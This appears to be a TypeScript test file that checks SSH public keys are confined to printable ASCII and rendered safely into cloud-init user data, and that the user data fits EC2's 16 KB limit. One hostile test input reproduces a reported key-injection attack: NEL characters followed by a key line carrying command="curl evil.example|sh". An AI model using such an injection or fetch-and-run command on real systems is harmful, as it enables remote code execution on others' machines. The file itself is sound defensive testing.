import { DEFAULT_CATALOG } from '../../lambdas/core/catalog.js';
import { checkSshPublicKey } from '../../lambdas/core/ssh-public-key.js';
import { renderUserData } from '../../lambdas/workflow/user-data.js';
import { type CloudInitReading, readAsCloudInit } from '../support/cloud-init-yaml.js';
import { ed25519Key } from '../support/ssh-keys.js';

/**
 * The agent's key reaches the machine through user data that cloud-init reads with PyYAML
 * (YAML 1.1), not JSON.parse. These tests read the generated user data as cloud-init does.
 */
const products = [DEFAULT_CATALOG['bare-linux-machine'], DEFAULT_CATALOG['gpu-h100-machine']];
const callback = {
  url: 'https://shop.example/api/machines/machine_0123456789abcdef/ready',
  secret: `mr_ready_${'a'.repeat(43)}`,
};
const userDataFor = (key: string, product = products[0]) =>
  renderUserData({
    sshPublicKey: key,
    readiness: (product ?? DEFAULT_CATALOG['bare-linux-machine']).readiness,
    readyCallback: callback,
  });

function keysOf(reading: CloudInitReading | undefined): unknown {
  if (!reading || 'error' in reading) return reading;
  return reading.config.ssh_authorized_keys;
}

const codePoint = (value: number) => String.fromCharCode(value);
/** One real key, many comments: generating a key per case would cost seconds. */
const keyLine = ed25519Key('');
const withComment = (comment: string) => `${keyLine.trim()} ${comment}`;
const PRINTABLE = (value: number) => value >= 0x20 && value <= 0x7e;

describe('the agent key in user data, as cloud-init reads it', () => {
  it('refuses every character outside printable ASCII in a key line, and only those', () => {
    const refusedButPrintable: number[] = [];
    const acceptedButNot: number[] = [];
    for (let value = 0; value <= 0xffff; value++) {
      // Spaces separate the comment's words; a trailing one is trimmed as a line's end.
      const check = checkSshPublicKey(withComment(`agent${codePoint(value)}x`));
      if (PRINTABLE(value) && !check.ok) refusedButPrintable.push(value);
      if (!PRINTABLE(value) && check.ok) acceptedButNot.push(value);
    }
    expect(acceptedButNot).toEqual([]);
    expect(refusedButPrintable).toEqual([]);
  });

  it('installs exactly the one key line sent, for every printable ASCII comment character', () => {
    const keys: string[] = [];
    for (let value = 0x20; value <= 0x7e; value++) {
      const key = withComment(`a${codePoint(value)}b ${codePoint(value).repeat(3)} "x": {y} #z`);
      expect(checkSshPublicKey(key)).toMatchObject({ ok: true, key });
      keys.push(key);
    }
    const documents = products.flatMap((product) => keys.map((key) => userDataFor(key, product)));
    const readings = readAsCloudInit(documents);
    readings.forEach((reading, index) => {
      expect(keysOf(reading)).toEqual([keys[index % keys.length]]);
    });
  });

  it('reads the document as JSON does even for characters the key check refuses (NEL, LS, C1, DEL)', () => {
    // The renderer's own guard, should a key ever reach it unchecked: every character outside
    // printable ASCII is an escape, so no byte can add a line or make the document unreadable.
    const hostile = [
      // The reported attack: two NELs, then a key line with options of the agent's choosing.
      `${ed25519Key('agent')}\u0085\u0085command="curl evil.example|sh" ${ed25519Key('evil')}`,
      ed25519Key('agent\u0080'),
      ed25519Key('agent\u2028second\u2029third'),
      ed25519Key('agent\u007f\u009f\u00a0\ufeff\ufffd'),
      ed25519Key('agent\u0000\u001b[31m\t\r'),
    ];
    // C1 controls, Latin-1 and the general punctuation block (LS, PS and other breaks/spaces).
    const blocks = [
      [0x80, 0x2ff],
      [0x2000, 0x206f],
      [0xfeff, 0xfeff],
      [0xfffd, 0xffff],
    ] as const;
    for (const [first, last] of blocks) {
      for (let value = first; value <= last; value++)
        hostile.push(withComment(`a${codePoint(value)}`));
    }
    const readings = readAsCloudInit(hostile.map((key) => userDataFor(key)));
    readings.forEach((reading, index) => {
      expect(keysOf(reading)).toEqual([hostile[index]]);
    });
  });

  it('writes user data as pure ASCII with the cloud-config header', () => {
    const userData = userDataFor(ed25519Key('agent\u0085\u2028'));
    expect(userData.startsWith('#cloud-config\n')).toBe(true);
    expect(/^[\x20-\x7e\n]*$/.test(userData)).toBe(true);
  });
});

/**
 * EC2 refuses user data over 16 KB: "User data is limited to 16 KB, in raw form, before it is
 * base64-encoded" (EC2 user guide, "Run commands when you launch an EC2 instance with user data
 * input"). A key the order accepted must fit, whatever its comment: otherwise the paid launch
 * is rejected by RunInstances and the lease is refunded, at the agent's will.
 */
describe('the user data of any accepted key, as EC2 limits it', () => {
  const EC2_USER_DATA_LIMIT_BYTES = 16 * 1024;
  // The longest callback URL a deployment can have: a custom domain of 253 characters.
  const longestCallback = {
    url: `https://${'d'.repeat(63)}.${'e'.repeat(63)}.${'f'.repeat(63)}.${'g'.repeat(61)}/api/machines/machine_0123456789abcdef/ready`,
    secret: callback.secret,
  };

  it.each(['a', '\\', '"'])('fits for the longest key whose comment is all %j', (character) => {
    const base = `${keyLine.trim()} `;
    // The longest key line of this comment character that the check accepts.
    let length = 8 * 1024;
    while (
      length > base.length &&
      !checkSshPublicKey(base + character.repeat(length - base.length)).ok
    )
      length--;
    const key = base + character.repeat(length - base.length);
    expect(checkSshPublicKey(key).ok).toBe(true);
    for (const product of products) {
      const userData = renderUserData({
        sshPublicKey: key,
        readiness: (product ?? DEFAULT_CATALOG['bare-linux-machine']).readiness,
        readyCallback: longestCallback,
      });
      expect(Buffer.byteLength(userData)).toBeLessThanOrEqual(EC2_USER_DATA_LIMIT_BYTES);
    }
  });
});
